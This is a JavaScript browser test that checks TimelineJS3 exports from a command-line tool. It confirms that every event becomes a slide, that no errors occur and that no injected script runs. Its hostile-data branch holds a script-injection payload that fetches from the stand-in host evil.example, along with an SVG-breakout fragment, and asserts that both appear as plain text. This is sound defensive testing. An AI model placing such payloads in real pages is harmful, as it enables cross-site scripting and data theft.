// timelinejs: TimelineJS3 makes a slide of every event, complains of nothing, and runs nothing.

import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { destal, launch, openPage } from "./browser.mjs";

const FIXTURES = "tests/fixtures/valid";
const DATASETS = { shipped: [], small: ["--data", `${FIXTURES}/small.json`], hostile: ["--data", `${FIXTURES}/hostile.json`] };
const LIBRARY = "tests/consumers/node_modules/@knight-lab/timelinejs/dist";
const TYPES = { js: "text/javascript", css: "text/css", json: "application/json", woff2: "font/woff2", woff: "font/woff" };
const PAGE = `<!doctype html><meta charset="utf-8"><title>check</title><link rel="icon" href="data:,">
<link rel="stylesheet" href="/css/timeline.css"><div id="t" style="height:600px"></div>
<script src="/js/timeline.js"></script>`;

const address = "http://timeline.test";

/** Answers for the page and for the files of the library, from the disk. */
function serve(route) {
  const { pathname } = new URL(route.request().url());
  if (pathname === "/") return route.fulfill({ contentType: "text/html", body: PAGE });
  if (pathname === "/none.css") return route.fulfill({ contentType: "text/css", body: "" }); // its own are elsewhere
  const contentType = TYPES[pathname.split(".").at(-1)] ?? "application/octet-stream";
  return route.fulfill({ contentType, body: readFileSync(join(LIBRARY, pathname)) });
}

const browser = await launch();
let slides = 0;
for (const [name, data] of Object.entries(DATASETS)) {
  for (const more of [[], ["--background"]]) {
    const text = destal("export", "timelinejs", ...more, ...data);
    assert.equal(text, destal("export", "timelinejs", ...more, ...data));
    const events = JSON.parse(destal("events", ...more, ...data, "-O", "json"));
    const { page, wrong } = await openPage(browser, { allowed: (url) => url.startsWith(`${address}/`) });
    await page.context().route(`${address}/**`, serve);
    await page.goto(`${address}/`);
    const seen = await page.evaluate(async (data) => {
      const timeline = new TL.Timeline("t", data, { font: `${location.origin}/none.css` });
      await new Promise((done) => timeline.on("loaded", done));
      const { config } = timeline;
      const texts = (selector) => [...document.querySelectorAll(selector)].map((found) => found.textContent);
      const known = new Set(["P", "UL", "LI", "STRONG", "EM", "SMALL"]);
      return {
        errors: config.getErrors(),
        events: config.events.map((event) => event.unique_id),
        slides: document.querySelectorAll(".tl-slide").length,
        markers: document.querySelectorAll(".tl-timemarker").length,
        headlines: texts(".tl-slide .tl-headline"),
        dates: texts(".tl-slide .tl-headline-date"),
        groups: texts(".tl-timegroup-message"),
        foreign: [...document.querySelectorAll(".tl-text-content *")].map((e) => e.tagName).filter((t) => !known.has(t)),
        run: document.title,
      };
    }, JSON.parse(text));
    assert.deepEqual(seen.errors, []);
    assert.equal(seen.events.length, events.length, name);
    assert.equal(seen.slides, events.length + 1, name);
    assert.equal(seen.markers, events.length, name);
    assert.deepEqual(seen.foreign, [], name);
    assert.equal(seen.run, "check");
    if (name !== "hostile") {
      assert.deepEqual(new Set(seen.events), new Set(events.map((event) => event.id)));
      const titles = events.map((event) => event.title);
      assert.deepEqual(seen.headlines.slice(1).sort(), titles.sort());
    } else {
      const script = '<script>document.title="OWNED";fetch("http://evil.example/x")</script>';
      assert.ok(seen.headlines.includes(script), "the text arrives as text");
      assert.ok(seen.groups.some((group) => group.includes("</svg><script>")), JSON.stringify(seen.groups));
    }
    if (name === "small") assert.ok(seen.dates.includes("c. October 1956"), JSON.stringify(seen.dates));
    if (name === "shipped" && !more.length) await page.screenshot({ path: join(process.env.SCRATCH, "shipped.png") });
    assert.deepEqual(wrong, [], name);
    slides += seen.slides;
    await page.context().close();
  }
}
await browser.close();
console.log(`${slides} slides, none dropped`);
